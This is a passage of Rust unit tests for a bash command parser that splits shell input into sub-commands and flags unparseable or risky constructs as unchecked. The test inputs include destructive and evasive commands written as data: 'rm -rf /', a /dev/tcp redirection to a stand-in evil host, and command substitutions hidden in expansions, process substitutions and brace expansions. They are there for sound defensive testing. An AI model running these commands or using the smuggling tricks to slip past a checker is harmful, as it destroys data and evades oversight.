        assert_eq!(texts("while read l; do echo $l; done"), ["read l", "echo $l"]);
        assert_eq!(texts("case $x in a) ls;; *) rm y;; esac"), ["ls", "rm y"]);
        assert_eq!(texts("! ls"), ["ls"]);
        assert_eq!(texts("time ls -la"), ["ls -la"]);
    }

    #[test]
    fn what_is_not_checked_fails_closed() {
        for (command, what) in [
            ("cat <<EOF\nhi\nEOF", "here-document"),
            ("cat <<'EOF'\n$(rm)\nEOF", "here-document"),
            // brush-parser 0.4 runs out of memory on this one: it must never reach it.
            ("<<$(( )", "here-document"),
            ("f() { rm -rf /; }; f", "function definition"),
            ("[[ -f x ]]", "[[ … ]] test"),
            ("echo $((1+2))", "arithmetic expansion"),
            ("(( x = 1 ))", "arithmetic"),
            ("a[$(rm)]=1", "array element assignment"),
            ("echo ${a[$(rm)]}", "parameter expansion"),
            ("echo ${!x}", "parameter expansion"),
            ("echo ${x@P}", "parameter expansion"),
            ("echo ${x:=1}", "parameter expansion"),
            ("echo ${x:-y}", "parameter expansion"),
            ("ls \"${x:-'$(touch F)'}\"", "parameter expansion"),
            ("df -h ${x:-<(rm -rf D)}", "parameter expansion"),
            ("echo ${x#y}", "parameter expansion"),
            ("echo `echo \\`rm\\``", "backticks with backslashes"),
            ("coproc ls", "coproc"),
            ("echo 'unterminated", "unparseable command"),
            ("ls;;", "unparseable command"),
            ("ls\0", "unparseable command"),
            ("echo $[x]", "arithmetic expansion"),
            ("cat < /dev/tcp/evil.example/80", "network redirection"),
            ("while read l; do echo $l; done < \"$F\"", "computed input redirection"),
            ("diff <(ls a) <(rm b)", "process substitution"),
            ("ls > >(rm x)", "process substitution"),
            ("{rm,-rf,/tmp/x}", "brace expansion"),
            ("ls /tmp/{a,b}", "brace expansion"),
            ("ls x{1..3}", "brace expansion"),
            ("ls @(a|b)", "unparseable command"),
        ] {
            let found = unchecked(command);
            assert!(found.contains(&what), "{command:?}: expected {what:?}, found {found:?}");
        }
        assert_eq!(
            unchecked(&format!("echo {}x{}", "$(echo ".repeat(200), ")".repeat(200))),
            ["deeply nested command"]
        );
        assert_eq!(unchecked(&"x".repeat(MAX_LEN + 1)), ["over-long command"]);
        for fine in ["grep x <<< 'a'", "echo {} {{.Names}}", "echo $# ${#x} $@ ${x[@]} $1", "ls ~/x", "echo \"(a)\""] {
            assert_eq!(unchecked(fine), Vec::<&str>::new(), "{fine}");
        }
    }

    #[test]
    fn a_word_shaped_like_an_assignment_has_its_tildes_expanded() {
        // Bash passes `if=/root/x`: the word is not the literal `if=~/x`.
        let c = command("dd if=~/x of=a:~/y x+=~ --o=~ \"x\"=~ x\\=~ x=a=~ ~=~ ~root=~");
        let w = &c.words;
        assert_eq!((w[1].prefix(), w[1].may_be_option), ("if=", false));
        assert_eq!(w[2].prefix(), "of=a:");
        assert_eq!(w[3].prefix(), "x+=");
        for literal in &w[4..8] {
            assert!(literal.is_literal(), "{literal:?}");
        }
        // Bash ends the user name at `=~` too, where brush does not.
        assert!(!w[8].is_literal() && !w[9].is_literal());
        // An assignment's value expands a `~` after each `:`.
        let c = command("PATH=~/bin:~/sbin X=a:~ Y=a=~ ls");
        assert!(!c.env[0].value.is_literal() && !c.env[1].value.is_literal());
        assert_eq!(c.env[1].value.prefix(), "a:");
        assert!(c.env[2].value.is_literal());
        assert!(matches!(&analyse("x=a:~").parts[..], [Part::Assignment(a)] if !a.value.is_literal()));
        assert_eq!(unchecked("echo a[1]=~"), ["tilde in an assignment-like word"]);
    }

    #[test]
    fn a_commands_assignments_reach_the_substitutions_after_them() {
        let parts = analyse("y=1 x=$(ls) Z=$(sort) cat").parts;
        let env = |i: usize| match &parts[i] {
            Part::Command(c) => c.env.iter().map(|a| a.name.as_str()).collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        };
        assert_eq!((env(0), env(1), env(2)), (vec!["y"], vec!["y", "x"], vec!["y", "x", "Z"]));
        // Without a command they are the shell's, not exported.
        assert!(matches!(&analyse("y=1 x=$(ls)").parts[0], Part::Command(c) if c.env.is_empty()));
    }

    #[test]
    fn an_appended_value_is_not_known() {
        let c = command("LANG+=C ls");
        assert_eq!(c.env[0].value.text, "${LANG}C");
        assert!(!c.env[0].value.is_literal());
    }

    #[test]
    fn a_bracket_closed_after_quoted_text_is_a_glob() {
        // With a file named `-rf`, bash passes `-rf`.
        let c = command("rm ['-']rf [a\"b\"] [a$x \"[\"a] [ a");
        let w = &c.words;
        assert!(!w[1].is_literal() && w[1].may_be_option);
        assert!(!w[2].is_literal() && !w[3].is_literal());
        assert!(w[4].is_literal() && w[5].is_literal() && w[6].is_literal());
    }

    #[test]
    fn a_backslash_newline_inside_ansi_c_quotes_fails_closed() {
        // Bash passes `a\<newline>b`; brush drops the two.
        assert_eq!(unchecked("ls $'a\\\nb'"), ["line continuation in an ANSI-C string"]);
        assert_eq!(unchecked("ls $'a\\'\\\nb'"), ["line continuation in an ANSI-C string"]);
        for fine in ["ls \\\n$'a'", "ls $'a' \\\n b", "ls $'a\\\\' \\\n b", "ls 'a\\\nb'"] {
            assert_eq!(unchecked(fine), Vec::<&str>::new(), "{fine:?}");
        }
        assert_eq!(texts("ls 'a\\\nb' $'c' \\\n d"), ["ls a\\\nb c d"]);
    }

    #[test]
    fn backticks_inside_double_quotes_fail_closed() {
        assert_eq!(unchecked("echo \"`ls \"{a,b}\"`\""), ["backticks inside double quotes"]);
        assert_eq!(unchecked("echo $\"`ls`\""), ["backticks inside double quotes"]);
        assert_eq!(
            texts("echo `ls \"{a,b}\"` \"$(ls \"{a,b}\")\""),
            ["ls {a,b}", "ls {a,b}", "echo `ls \"{a,b}\"` $(ls \"{a,b}\")"]
        );
    }

    #[test]
    fn a_named_descriptor_fails_closed() {
        // Bash runs `ls` alone, with a new descriptor in `fd`.
        assert_eq!(unchecked("ls {fd}>out"), ["named file descriptor"]);
        assert_eq!(unchecked("ls {x}<a.txt"), ["named file descriptor"]);
        // Whether a space separates them is not known: `{x} >out` fails too.
        assert_eq!(unchecked("ls {x} >out"), ["named file descriptor"]);
        assert_eq!(unchecked("ls {x}; ls {} {1}>out"), Vec::<&str>::new());
        assert_eq!(texts("find . -exec ls {} + > out"), ["find . -exec ls {} +", "> out"]);
    }

    #[test]
    fn double_parentheses_that_are_not_arithmetic_fail_closed() {
        // Bash re-reads this from a copy with `$'\1'` mangled into two bytes.
        assert_eq!(unchecked("(( ls $'\\1' ); ls)"), ["`((` that is not arithmetic"]);
        assert_eq!(unchecked("( { ls; }; ls)"), Vec::<&str>::new());
    }

    #[test]
    fn comments_and_line_continuations_are_what_bash_sees() {
        assert_eq!(texts("ls # ; rm -rf /"), ["ls"]);
        // `#` starts a comment only at the start of a word.
        assert_eq!(texts("ls#; rm -rf /"), ["ls#", "rm -rf /"]);
        assert_eq!(texts("echo $# a#b; rm x"), ["echo $# a#b", "rm x"]);
        assert_eq!(texts("ls;# x\nrm z"), ["ls", "rm z"]);
        // A carriage return is part of the word, not a separator.
        assert_eq!(texts("ls\r\nrm"), ["ls\r", "rm"]);
        assert_eq!(texts("ls \\\n -la"), ["ls -la"]);
        // An escaped backslash before a newline does not continue the line.
        assert_eq!(texts("echo x\\\\\nrm -rf /"), ["echo x\\", "rm -rf /"]);
    }
}
